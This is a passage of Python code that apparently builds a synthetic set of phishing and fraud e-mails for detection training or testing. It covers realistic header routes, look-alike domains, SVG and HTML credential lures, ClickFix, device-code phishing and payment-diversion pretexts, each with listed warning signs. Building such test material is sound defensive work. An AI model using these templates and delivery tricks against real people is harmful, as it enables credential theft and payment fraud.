               ('Petra Lang', 'p.lang@lieferant-gmbh.com'), [S('schaefer')],
               'AW: Offene Posten Lieferant GmbH / Kd.-Nr. 20418',
               I.vps_postfix('mail.lieferant-gmbh.com', 'static.162.47.198.88.clients.your-server.de', '88.198.47.162',
                             client_ip='185.213.155.74', client_host='unknown', mailer='Microsoft Outlook 16.0',
                             msgid_style='outlook_desktop', bstyle='outlook_desktop', order=I.ORDER_OUTLOOK_DESKTOP,
                             hcs='iso-8859-1', henc='Q',
                             extra_headers=[('Thread-Index', 'AQHbQ2mZk7Rr0a8uT0e1lXc3bVv6Yw=='), ('Content-Language', 'de')]),
               Multi('mixed', [alt(txt, outlook_html(txt, 'windows-1252'), 'windows-1252', 'quoted-printable'),
                               tpl.pdf_att(a02_pdf(), 'Mitteilung_Bankverbindung_Lieferant_GmbH.pdf', 'outlook_desktop')]),
               'Fake reply in a fabricated thread: "Petra Lang" of the trims supplier asks accounts payable to pay two '
               'overdue invoices and all future ones to a new IBAN (N26 online bank), with a "signed" PDF letter.',
               'Sender domain lieferant-gmbh.com is a look-alike of the real lieferant-gmbh.de (on a Hetzner VPS, '
               'submitted via a VPN exit); the quoted "original" was addressed to the real domain; consumer neobank '
               'account; pressure (overdue) and refusal of phone contact; PDF produced with "Microsoft: Print To PDF".',
               in_reply_to='<8f2c41d9a07b4e6c9d15a3b0e7f26c48@EXCH02.example.local>',
               references='<8f2c41d9a07b4e6c9d15a3b0e7f26c48@EXCH02.example.local>'))
    # 03 ------------------------------------------------------------ ELSTER credential phishing via SendGrid
    L.append(M(F, 3, 'de', 'elster-zertifikat-phishing', '2026-10-20 08:12:44', 'DE',
               ('ELSTER - Ihr Online-Finanzamt', 'noreply@elster-zertifikat-service.de'), [S('weissmann')],
               'Ihr ELSTER-Organisationszertifikat läuft am 31.10.2026 ab – Verlängerung erforderlich',
               I.sendgrid('em4821.elster-zertifikat-service.de'),
               alt(A03_TXT, a03_html(), 'utf-8', 'quoted-printable'),
               'Credential/certificate phishing posing as ELSTER: organisation certificate "expires", link to renew asks '
               'for the .pfx certificate file and its password.',
               'Look-alike domain elster-zertifikat-service.de sent through SendGrid; ELSTER never asks to upload the '
               'certificate file, renewals are done inside Mein ELSTER; threat of late-filing surcharge; click-tracking '
               'redirect hides the target.'))
    # 04 ------------------------------------------------------------ quishing MFA from compromised dentist mailbox
    L.append(M(F, 4, 'de', 'quishing-m365-mfa', '2026-10-21 14:37:12', 'DE',
               ('Microsoft 365', 'praxis@zahnarzt-lindner-viersen.de'), [S('berger')],
               'Aktion erforderlich: MFA-Registrierung für nina.berger@example.com läuft ab',
               I.kasserver_rc(client_ip='185.107.56.231'), a04_body(),
               'QR-code phishing (quishing): fake Microsoft 365 MFA re-registration; the QR code points to an AiTM login '
               'page with the victim\'s address pre-filled.',
               'Sent from a compromised mailbox of an unrelated dental practice (Roundcube webmail at all-inkl); brand '
               'impersonation under a foreign domain; QR code moves the click to an unmanaged phone; URL '
               'sso-m365-auth.com is not Microsoft; lock-out threat and 48-hour deadline.'))
    # 05 ------------------------------------------------------------ HTML attachment from compromised M365 tenant
    L.append(M(F, 5, 'de', 'zahlungsavis-html-anhang', '2026-11-03 11:20:03', 'DE',
               ('Buchhaltung | Elektro Hanke GmbH', 'buchhaltung@hanke-elektro.de'), [S('schaefer')],
               'Zahlungsavis 03.11.2026 – Example Group GmbH',
               I.m365('EUR', 0, org='hanke-elektro.de', hcs='iso-8859-1', henc='Q'),
               Multi('mixed', [alt(A05_TXT, outlook_html(A05_TXT, 'iso-8859-1'), 'iso-8859-1', 'quoted-printable'), a05_att()]),
               'Payment-advice lure from a compromised Microsoft 365 mailbox of an unrelated electrical contractor; the '
               '.htm attachment is a local fake Microsoft sign-in with the recipient pre-filled.',
               'No business relationship with the sender; "protected" remittance that needs a password; HTML attachment '
               'posts credentials to avis-dokument.de-secure-view.com; generic text.'))
    # 06 ------------------------------------------------------------ payroll diversion from Gmail
    txt = A06_TXT.format(iban=C.fmt_iban(FRAUD['a06']))
    L.append(M(F, 6, 'de', 'payroll-diversion-gmail', '2026-11-16 07:48:20', 'DE',
               ('Nina Berger', 'ninaberger.mg@gmail.com'), [S('lorenz')],
               'Neue Bankverbindung – bitte ab Novemberabrechnung',
               I.gmail('DE'), alt(txt, gmail_html(txt), 'utf-8', 'quoted-printable', csname='UTF-8'),
               'Payroll diversion: an employee\'s name on a new Gmail address asks payroll to redirect her salary to a '
               'Revolut (LT) account before the November run.',
               'Unverified private address never used before; reason why the company account cannot be used; '
               'deadline (current payroll run); foreign neobank IBAN; asks only for e-mail confirmation instead of '
               'the HR self-service form.'))
    # 07 ------------------------------------------------------------ fake register invoice via Mailgun
    L.append(M(F, 7, 'de', 'fake-register-rechnung', '2026-11-05 09:02:18', 'DE',
               ('DHGR Deutsches Handels- und Gewerberegister', 'rechnung@dhgr-register.de'), [S('hoffmann')],
               'Eintragung Example Group GmbH – HRB 14872 – Vorgang 2026-DE-88417',
               I.mailgun('mg.dhgr-register.de'),
               Multi('mixed', [Text('plain', A07_TXT, 'iso-8859-15', 'quoted-printable'),
                               tpl.pdf_att(a07_pdf(), 'Eintragungsformular_2026-DE-88417.pdf')]),
               'Fake register / directory "invoice": offer for a private "Handels- und Gewerberegister" listing dressed up '
               'as an official registration fee (EUR 949.62 p.a., 3-year term) payable to a Slovak account.',
               'Misleading official-looking name; only the small print says it is an offer unrelated to the official '
               'commercial register; payment = contract with automatic renewal; bulk ESP (Mailgun); no prior order.'))
    # 08 ------------------------------------------------------------ Teams / Quick Assist vishing pretext
    L.append(M(F, 8, 'de', 'it-helpdesk-teams-quickassist', '2026-11-09 10:31:55', 'DE',
               ('IT-Servicedesk | Example Group', 'it-servicedesk@examplegroupit.onmicrosoft.com'), [S('dietrich')],
               'Ihr Postfach: Spam-Welle – Rückruf des IT-Servicedesk über Microsoft Teams',
               I.m365('EUR', 2, org='examplegroupit.onmicrosoft.com'),
               Multi('alternative', [Text('plain', A08_TXT, 'utf-8', 'quoted-printable'),
                                     Text('html', outlook_html(A08_TXT, 'utf-8'), 'utf-8', 'base64')]),
               'Remote-access vishing pretext after e-mail bombing: a fake IT service desk announces a Teams call and '
               'instructs the user to open Quick Assist and grant full control.',
               'External *.onmicrosoft.com trial tenant posing as internal IT; internal IT never uses Quick Assist via '
               'external Teams accounts; matches the Storm-1811 / Black Basta playbook (mail bombing + Teams call + '
               'remote access leading to ransomware).'))
    # 09 ------------------------------------------------------------ fake DocuSign via SES
    e = b64mail(A('bennett'))
    L.append(M(F, 9, 'en', 'fake-docusign-supplier-agreement', '2026-10-13 15:22:40', 'UK',
               ('Harrow & Finch via DocuSign', 'dse-notifications@docusign-envelopes.net'), [S('bennett')],
               'Complete with DocuSign: Harrow & Finch - Supplier Agreement SS27 & Price Schedule.pdf',
               I.ses('eu-west-1', '54.240.4.21'),
               alt(A09_TXT.format(e=e), a09_html(e), 'utf-8', 'quoted-printable'),
               'Fake DocuSign envelope in the name of a real customer; "Review document" leads to a Firebase-hosted '
               'credential page with the victim\'s address encoded in the URL.',
               'Sender domain docusign-envelopes.net is not DocuSign (real: docusign.net/docusign.com), sent via '
               'Amazon SES; button points to *.web.app instead of docusign.net; security code is a dummy.'))
    # 10 ------------------------------------------------------------ SVG attachment
    L.append(M(F, 10, 'en', 'svg-remittance-advice', '2026-10-14 11:05:09', 'UK',
               ('Remittance Advice', 'accounts@mcallister-joinery.co.uk'), [S('shah')],
               'Remittance Advice - BACS Payment Ref RA-771902',
               I.cpanel_exim('server412.web-hosting.com', '198.54.116.84', php=True, user='mcallist', zone='UK',
                             xmailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)', hcs='utf-8', henc='Q'),
               Multi('mixed', [Text('plain', A10_TXT, 'us-ascii', '7bit'),
                               Att('image/svg+xml', tpl.svg_doc('Microsoft OneDrive', [
                                   'Remittance_RA-771902.pdf  (214 KB)', 'Shared with ' + A('shah'),
                                   'This document is protected.', 'Verify your work account to view the payment details.'],
                                   'https://remittance-portal.z33.web.core.windows.net/#' + b64mail(A('shah')), 'Open Document').encode('utf-8'),
                                   'Remittance_RA-771902.svg')]),
               'Remittance-advice lure with an SVG attachment that renders a OneDrive "protected document" and links to '
               'an Azure static-site credential page.',
               'Sent by a PHP script on a compromised joinery website (cPanel/Exim, PHPMailer); no relationship with '
               'the sender; SVG used as a document is a known filter-evasion format; link to *.web.core.windows.net '
               'with the recipient\'s address in the fragment.'))
    # 11 ------------------------------------------------------------ callback phishing via genuine PayPal invoice
    L.append(M(F, 11, 'en', 'paypal-invoice-callback', '2026-10-22 21:14:26', 'UK',
               ('PayPal', 'service@paypal.co.uk'), [S('roth')],
               'Invoice from Norton LifeLock Billing (0917-2026)',
               I.generic_esp('mx2.phx.paypal.com', '66.211.170.88', tls='1.2', zone='PT', bstyle='java',
                             received_fmt=['from ccg01mail07.phx.paypal.com (ccg01mail07.phx.paypal.com [10.184.170.27])\n\tby mx2.phx.paypal.com (Postfix) with ESMTP id {qid}\n\tfor <{rcpt}>; {date_c}'],
                             msgid_fmt='<{hex12}{hex8}.{ts}@paypal.com>',
                             extra=[('X-Email-Type-Id', 'PPX001326'), ('X-XPT-XSL-Name', 'email_pimp/default/en_GB/Invoicing/InvoiceSent.xsl'),
                                    ('PP-Correlation-Id', '{hex12}'), ('X-PP-REQUESTED-TIME', '{ms}'), ('X-PP-Email-transmission-Id', '{uuid}')],
                             return_path='service@paypal.co.uk'),
               alt(A11_TXT.format(note=A11_NOTE), a11_html(), 'utf-8', 'quoted-printable', csname='UTF-8'),
               'Callback phishing (TOAD) abusing the genuine PayPal invoicing service: a fake "Norton renewal" note '
               'tells the recipient to phone a number to cancel, where a fraudster walks them into remote access.',
               'Delivered from real PayPal infrastructure (so SPF/DKIM pass), but the merchant is attacker-created; '
               'no such subscription exists; the only call to action is a phone number in the seller note.',
               rcpt=A('roth')))
    # 12 ------------------------------------------------------------ Companies House via Brevo
    link = 'https://0j5k2.r.sp1-brevo.net/mk/cl/f/sh/7nQ2kY3xWbZrL9mTvA1cE4gH6jP8sD0fR5uI7oK2lN'
    L.append(M(F, 12, 'en', 'companies-house-onelogin', '2026-10-26 09:40:02', 'UK',
               ('Companies House', 'noreply@companieshouse-filing.uk'), [S('bennett')],
               'Action required: confirmation statement overdue - EXAMPLE GROUP UK LTD (11457823)',
               I.brevo('sib.companieshouse-filing.uk', '77.32.148.30'),
               alt(A12_TXT.format(link=link), a12_html(link), 'utf-8', 'quoted-printable'),
               'Regulator impersonation: fake Companies House notice about an overdue confirmation statement and '
               'incomplete identity verification; link harvests GOV.UK One Login credentials and the company '
               'authentication code.',
               'Domain companieshouse-filing.uk is not gov.uk; sent through Brevo with tracked links; exaggerated '
               'strike-off/prosecution threat; real Companies House mail comes from GOV.UK Notify and never asks for '
               'the authentication code by link.'))
    # 13 ------------------------------------------------------------ ClickFix HTML from consumer Outlook.com
    L.append(M(F, 13, 'en', 'clickfix-customer-complaint', '2026-11-10 14:18:30', 'UK',
               ('Rachel Hughes', 'rachel.hughes.hf@outlook.com'), [S('bennett')],
               'Faulty items in last delivery - QA photos (PO HF-55198)',
               I.m365(consumer=True, lang='en-GB'),
               Multi('mixed', [alt(A13_TXT, outlook_html(A13_TXT, 'utf-8', 'EN-GB'), 'utf-8', 'quoted-printable'), a13_att()]),
               'ClickFix: a customer complaint "with photos" from a look-alike private address of a real buyer; the HTML '
               'attachment shows a fake OneDrive/Cloudflare "verify you are human" page telling the user to paste an '
               'mshta command into Win+R.',
               'Real buyer Rachel Hughes writes from harrowfinch.co.uk; a consumer outlook.com address with an excuse; '
               'the "viewer" instructs running a command (mshta to qa-photoview.net) - the ClickFix malware-delivery '
               'technique.'))
    # 14 ------------------------------------------------------------ device-code phishing
    L.append(M(F, 14, 'en', 'device-code-teams-workspace', '2026-11-11 10:02:51', 'UK',
               ('Megan Price', 'megan.price@cotswoldknitwear.co.uk'), [S('mueller')],
               'SS27 knitwear samples - secure Teams workspace access',
               I.gmail('UK'), alt(A14_TXT, gmail_html(A14_TXT), 'utf-8', '7bit', csname='UTF-8'),
               'Device-code phishing: an unknown "supplier" asks the buyer to enter an attacker-generated code at the '
               'genuine microsoft.com/devicelogin page, which hands the attacker OAuth tokens for his M365 account.',
               'Sent from a (compromised) Google Workspace mailbox of a small UK knitwear firm with no history; "call '
               'last month" is invented; a document share never requires entering a device code; 15-minute pressure.'))
    # 15 ------------------------------------------------------------ sextortion
    txt = A15_TXT.format(addr=A('roth'), btc=FRAUD['btc'])
    L.append(M(F, 15, 'en', 'sextortion-bitcoin', '2026-11-14 03:11:48', 'BR',
               ('', A('roth')), [('', A('roth'))],
               'Security alert: unauthorized access to ' + A('roth'),
               I.cpanel_exim('srv214.prodns.com.br', '162.241.2.87', client_ip='103.153.182.40', zone='BR', hcs='utf-8', henc='B',
                             msgid_style='hex', bstyle='python'),
               Text('plain', txt, 'us-ascii', '7bit'),
               'Sextortion / extortion spam: claims device compromise and webcam recordings, demands USD 1,350 to a '
               'Bitcoin (bech32) address within 48 hours.',
               'From: spoofed as the recipient himself while the envelope sender is a compromised Brazilian '
               'hosting account; generic extortion template; cryptocurrency payment demand.',
               return_path='suporte@construtorasilvaneto.com.br'))
    # 16 ------------------------------------------------------------ gift-card BEC from look-alike on Zoho
    L.append(M(F, 16, 'en', 'ceo-gift-cards', '2026-11-19 08:47:05', 'UK',
               ('Jörg Küster', 'j.kuester@example-group.co'), [S('bennett')], 'Quick request',
               I.zoho_eu('102.89.34.117'),
               alt(A16_TXT, gmail_html(A16_TXT).replace('<div dir="ltr">', '<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">'),
                   'utf-8', 'quoted-printable', csname='UTF-8'),
               'Gift-card BEC: "CEO" on a look-alike domain asks the UK office manager to buy eight GBP 250 Amazon '
               'gift cards and send photos of the codes.',
               'example-group.co is a look-alike of example.com / examplegroup.eu, hosted on Zoho Mail and sent from a '
               'Nigerian IP; secrecy, urgency, e-mail-only contact, gift-card codes as payment.'))
    return L
